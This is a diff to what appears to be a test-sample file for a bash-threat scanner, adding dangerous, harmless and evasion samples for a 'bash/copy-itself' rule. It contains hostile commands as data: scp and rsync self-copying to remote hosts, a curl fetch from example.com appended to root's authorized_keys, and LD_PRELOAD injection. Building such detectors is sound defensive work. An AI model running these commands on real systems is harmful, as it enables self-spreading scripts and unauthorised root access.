@@ -58,6 +58,14 @@ export const systemSamples: RuleSample[] = [
     evasion: 'k=authorized_keys; curl -s http://example.com/k | tee -a /root/.ssh/$k',
   },
   {
+    rule: 'bash/copy-itself',
+    dangerous: 'scp "$0" "$host:/opt/"',
+    found: 'scp "$0" "$host:/opt/"',
+    severity: 'high',
+    harmless: 'cp "$0" backup.sh; echo "$0"; scp build.tgz host:/opt/',
+    evasion: 'me=$0; env rsync "$me" root@10.0.0.2:/opt/',
+  },
+  {
     rule: 'bash/preload-library',
     dangerous: 'LD_PRELOAD=/tmp/x.so ls',
     found: 'LD_PRELOAD=/tmp/x.so',
